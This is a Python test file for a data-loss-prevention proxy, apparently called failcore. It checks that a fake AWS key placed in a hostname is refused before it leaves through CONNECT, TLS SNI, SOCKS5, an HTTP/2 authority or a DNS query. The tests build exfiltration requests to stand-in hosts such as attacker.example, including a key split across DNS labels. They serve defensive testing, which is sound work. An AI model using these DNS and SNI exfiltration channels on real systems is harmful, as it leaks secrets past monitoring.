"""Held attack: a secret in the name a tunnel or a lookup is opened for, refused before it leaves.

- `CONNECT <key>.attacker.example:443`: mitmproxy connects (and looks the name up) when the tunnel
  opens, before any request inside it; the DLP scan read only those requests, so the key's DNS lookup
  left, and an enforce-mode BLOCK never applied.
- With `network.block_private_resolved: true`, failcore itself looks a target's name up (to refuse
  inward addresses) before the DLP scan of the request: its own lookup carried the key out.
- A CONNECT to an allowed host, then a TLS ClientHello whose SNI holds the key: mitmproxy passes the
  SNI on to the upstream's handshake.

HTTP clients lower-case host names, and an AWS key id only matches in upper case: both spellings."""

from __future__ import annotations

import socket
import ssl
import time
from pathlib import Path

import pytest

from tests.helpers import network_events, read_tape
from tests.security.helpers import DLP_BLOCK, get_through_tunnel, read_head, send_raw
from tests.security.upstream import LoggingUpstream

KEY = "AKIAIOSFODNN7EXAMPLQ"  # gitleaks' aws-access-key-id shape, not a real key

RESOLVING = DLP_BLOCK + "network:\n  block_private_resolved: true\n"


def _tape_bytes(tape: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(tape.glob("seg-*.jsonl")))


def _no_key_in(data: bytes) -> bool:
    return KEY.encode() not in data.upper()


@pytest.mark.parametrize("key", [KEY, KEY.lower()])
def test_a_connect_to_a_secret_host_is_refused_before_the_tunnel_opens(
    start_proxy, policy_file, tmp_path: Path, key: str
) -> None:
    proxy = start_proxy(policy_file(DLP_BLOCK))
    authority = f"{key}.attacker.invalid:443"
    answer = send_raw(proxy.port, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    proxy.flush()
    # failcore's refusal, not a 502 from a connection attempt whose lookup carried the key out.
    assert answer.startswith(b"HTTP/1.1 403"), answer[:300]
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))
    (event,) = network_events(read_tape(tmp_path / "tape"))
    assert (event["action"], event["decision"]) == ("http.connect", "BLOCK")
    assert "aws-access-key-id" in (event["rule"] or "") and "at CONNECT host" in event["reason"]


def test_failcores_own_lookup_never_carries_a_secret(
    start_proxy, policy_file, tmp_path: Path, monkeypatch
) -> None:
    import failcore.proxy.resolved as resolved

    looked_up: list[str] = []
    real = resolved.inward_address

    async def logging_lookup(host: str, port: int) -> str | None:
        looked_up.append(host)
        return await real(host, port)

    monkeypatch.setattr(resolved, "inward_address", logging_lookup)
    proxy = start_proxy(policy_file(RESOLVING))
    host = f"{KEY.lower()}.attacker.invalid"
    plain = send_raw(proxy.port, f"GET http://{host}/x HTTP/1.1\r\nHost: benign.example\r\n\r\n".encode())
    tunnel = send_raw(proxy.port, f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    control = send_raw(proxy.port, b"GET http://clean.invalid/x HTTP/1.1\r\nHost: clean.invalid\r\n\r\n")
    proxy.flush()
    assert plain.startswith(b"HTTP/1.1 403") and tunnel.startswith(b"HTTP/1.1 403"), (plain, tunnel)
    assert not control.startswith(b"HTTP/1.1 403"), control
    # The control shows the lookup is watched: it was asked about the clean name only.
    assert looked_up == ["clean.invalid"], looked_up
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))


def test_a_secret_in_the_sni_never_reaches_the_upstream(
    start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path
) -> None:
    proxy = start_proxy(policy_file(DLP_BLOCK), upstream_ca=logging_upstream.ca_path)
    sni = f"{KEY.lower()}.attacker.example"
    answer = get_through_tunnel(proxy, logging_upstream, sni, check_hostname=False)
    proxy.flush()
    assert answer.startswith(b"HTTP/1.1 403"), answer
    assert all(_no_key_in(sni.encode()) for sni in logging_upstream.snis()), logging_upstream.snis()
    assert b"/sni" not in logging_upstream.received_bytes()
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))
    (event,) = network_events(read_tape(tmp_path / "tape"))
    assert event["decision"] == "BLOCK" and "aws-access-key-id" in (event["rule"] or "")
    assert "at TLS SNI" in event["reason"], event["reason"]


def test_a_key_split_across_dns_labels_is_refused(start_proxy, policy_file, tmp_path: Path) -> None:
    """A DNS label holds at most 63 characters: a longer key must be split at dots, a short one can be."""
    proxy = start_proxy(policy_file(DLP_BLOCK))
    authority = f"{KEY[:10]}.{KEY[10:]}.attacker.invalid:443"
    answer = send_raw(proxy.port, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    proxy.flush()
    assert answer.startswith(b"HTTP/1.1 403"), answer[:300]
    raw = _tape_bytes(tmp_path / "tape")
    assert KEY[:10].encode() not in raw.upper() or KEY[10:].encode() not in raw.upper()


def test_a_reverse_proxy_never_offers_a_secret_sni_upstream(
    start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path
) -> None:
    """Outside a tunnel the upstream handshake names the reverse proxy's own target instead."""
    proxy = start_proxy(
        policy_file(DLP_BLOCK),
        upstream_ca=logging_upstream.ca_path,
        modes=[f"reverse:https://localhost:{logging_upstream.port}@0"],
    )
    context = ssl.create_default_context(cafile=str(proxy.ca_cert))
    context.check_hostname = False
    context.set_alpn_protocols(["http/1.1"])
    with (
        socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as raw,
        context.wrap_socket(raw, server_hostname=f"{KEY}.attacker.example") as tls,
    ):
        tls.sendall(b"GET /reverse HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        answer = read_head(tls)
    proxy.flush()
    assert answer.startswith(b"HTTP/1.1 403"), answer
    assert all(_no_key_in(sni.encode()) for sni in logging_upstream.snis()), logging_upstream.snis()
    assert b"/reverse" not in logging_upstream.received_bytes()
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))


def test_a_socks5_target_holding_a_secret_is_never_looked_up(
    start_proxy, policy_file, tmp_path: Path, monkeypatch
) -> None:
    looked_up: list[str] = []
    real = socket.getaddrinfo

    def logging_getaddrinfo(host, *args, **kw):  # type: ignore[no-untyped-def]
        looked_up.append(str(host))
        return real(host, *args, **kw)

    monkeypatch.setattr(socket, "getaddrinfo", logging_getaddrinfo)
    proxy = start_proxy(policy_file(DLP_BLOCK), modes=["socks5"])

    def socks5_get(host: bytes) -> bytes:
        with real_connection(proxy.port) as c:
            c.sendall(b"\x05\x01\x00")
            assert c.recv(2) == b"\x05\x00"
            c.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + (80).to_bytes(2, "big"))
            return c.recv(10)

    refused = socks5_get(f"{KEY.lower()}.attacker.invalid".encode())
    socks5_get(b"clean.invalid")  # the control: its name is looked up
    proxy.flush()
    assert refused[:2] != b"\x05\x00", refused  # not "succeeded"
    assert any("clean.invalid" in h for h in looked_up), looked_up
    assert not any(KEY.lower() in h.lower() for h in looked_up), looked_up
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))


def real_connection(port: int) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(30)
    sock.connect(("127.0.0.1", port))
    return sock


def test_an_http2_authority_holding_a_lower_cased_secret_is_refused(
    start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path
) -> None:
    """mitmproxy keeps HTTP/2 pseudo-headers out of `request.headers`: the Host-header check missed it."""
    import h2.config
    import h2.connection
    import h2.events

    # Lazy: mitmproxy offers HTTP/2 to the client without asking the upstream first.
    proxy = start_proxy(
        policy_file(DLP_BLOCK), upstream_ca=logging_upstream.ca_path, sets=["connection_strategy=lazy"]
    )
    status = None
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as raw:
        raw.sendall(f"CONNECT 127.0.0.1:{logging_upstream.port} HTTP/1.1\r\n\r\n".encode())
        assert read_head(raw).startswith(b"HTTP/1.1 200")
        context = ssl.create_default_context(cafile=str(proxy.ca_cert))
        context.set_alpn_protocols(["h2"])
        with context.wrap_socket(raw, server_hostname="127.0.0.1") as tls:
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            headers = [
                (":method", "GET"),
                (":path", "/h2"),
                (":authority", f"{KEY.lower()}.attacker.example"),
                (":scheme", "https"),
            ]
            conn.send_headers(1, headers, end_stream=True)
            tls.sendall(conn.data_to_send())
            while status is None and (data := tls.recv(65536)):
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        status = int(dict(event.headers)[b":status"])
                tls.sendall(conn.data_to_send())
    proxy.flush()
    assert status == 403
    assert _no_key_in(logging_upstream.received_bytes())
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))


def test_a_dns_question_holding_a_secret_is_refused_before_mitmproxy_resolves_it(
    start_proxy, policy_file, tmp_path: Path, monkeypatch
) -> None:
    """DNS through failcore (`--contain` uses mitmproxy's dns mode): mitmproxy's resolver, a built-in
    addon that runs before failcore's, looks A questions up (and forwards the others). The key's
    question must be answered REFUSED without ever reaching it; a clean one still does."""
    from mitmproxy.addons.dns_resolver import DnsResolver

    asked: list[str] = []
    resolve = DnsResolver.resolve

    async def logging_resolve(self, message):  # type: ignore[no-untyped-def]
        asked.extend(q.name for q in message.questions)
        return await resolve(self, message)

    monkeypatch.setattr(DnsResolver, "resolve", logging_resolve)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    proxy = start_proxy(policy_file(DLP_BLOCK), modes=[f"dns@127.0.0.1:{port}"])

    def a_query(name: str, query_id: int) -> bytes:
        question = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
        header = query_id.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        return header + question + b"\x00\x00\x01\x00\x01"

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(10)
        client.sendto(a_query(f"{KEY.lower()}.attacker.example", 1), ("127.0.0.1", port))
        answer = client.recv(4096)
        client.sendto(a_query("clean.invalid", 2), ("127.0.0.1", port))  # the control: resolved
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and "clean.invalid" not in asked:
            time.sleep(0.05)
    proxy.flush()
    assert answer[3] & 0x0F == 5, answer  # REFUSED
    assert "clean.invalid" in asked, asked
    assert not any(KEY.lower() in name.lower() for name in asked), asked
    assert _no_key_in(_tape_bytes(tmp_path / "tape"))
    (event,) = [e for e in network_events(read_tape(tmp_path / "tape")) if e["action"] == "ip.packet"]
    assert (event["decision"], event["outcome"], event["detail"]["protocol"]) == ("BLOCK", "BLOCKED", "dns")
    assert "aws-access-key-id" in (event["rule"] or "")
